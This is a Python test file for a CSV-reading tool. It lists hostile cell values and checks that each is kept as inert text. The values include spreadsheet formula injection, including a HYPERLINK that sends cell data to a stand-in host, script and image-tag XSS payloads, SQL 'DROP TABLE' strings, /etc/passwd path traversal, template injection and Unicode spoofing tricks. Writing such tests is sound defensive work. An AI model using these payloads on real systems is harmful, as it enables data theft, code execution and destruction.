"""Cells that want to be code: they are text, they stay as they are, and nothing acts on them."""

from tests.bad_inputs.cases import Case, both, cell, column, reads, rewritten, stops

_NASTY = "'; DROP TABLE accounts; --"

CASES = (
    Case(
        "a formula for a name",
        cell("accounts", 5, name="=cmd|'/C calc'!A0"),
        reads(accounts__A005__name="=cmd|'/C calc'!A0"),
    ),
    Case("a formula behind an @", cell("accounts", 5, name="@SUM(1+1)*cmd|'/C calc'!A0"), reads()),
    Case(
        "a link that sends what it reads",
        cell("accounts", 5, name='=HYPERLINK("http://x.example?"&A1,"click")'),
        reads(),
    ),
    Case(
        "a script for a name",
        cell("accounts", 5, name="<script>alert(1)</script>"),
        reads(accounts__A005__name="<script>alert(1)</script>"),
    ),
    Case("a picture that runs a script", cell("accounts", 5, industry='"><img src=x onerror=alert(1)>'), reads()),
    Case("SQL for a name", cell("accounts", 5, name=_NASTY), reads(accounts__A005__name=_NASTY)),
    Case(
        "SQL for an id",
        both(cell("accounts", 100, account_id=_NASTY), cell("deals", 100, account_id=_NASTY)),
        reads(deals__d100__account_id=_NASTY),
    ),
    Case("SQL for a column", rewritten("deals", lambda t: t.replace("seats", '"""; DROP TABLE x; --"', 1)), reads()),
    Case("a path for an owner", column("accounts", "owner_id", "../../etc/passwd"), reads()),
    Case(
        "a template for a name",
        cell("accounts", 5, name="{{ 7 * 7 }} {% include '/etc/passwd' %} ${HOME} %s"),
        reads(accounts__A005__name="{{ 7 * 7 }} {% include '/etc/passwd' %} ${HOME} %s"),
    ),
    Case(
        "colours of a terminal for a name",
        cell("accounts", 5, name="\x1b[31mred\x1b[0m"),
        reads(accounts__A005__name="\x1b[31mred\x1b[0m"),
    ),
    Case("a domain that looks like another's", cell("accounts", 5, domain="аpple.com"), reads()),
    Case("a name that runs backwards", cell("accounts", 5, name="abc\u202egpj.exe"), reads()),
    Case(
        "markup of rich text in an outcome",
        cell("deals", 5, outcome="[bold]lost[/bold]"),
        stops(
            "deals.csv: 'outcome' must be one of won, lost, open, got '[bold]lost[/bold]' on line 7 (1 row) (map it in tierkit.toml, [data.deals.values.outcome])"
        ),
    ),
    Case(
        "a name of 100,000 letters", cell("accounts", 5, name="x" * 100_000), reads(accounts__A005__name="x" * 100_000)
    ),
    Case("a name of a thousand accents", cell("accounts", 5, name="e" + "\u0301" * 1000), reads()),
)
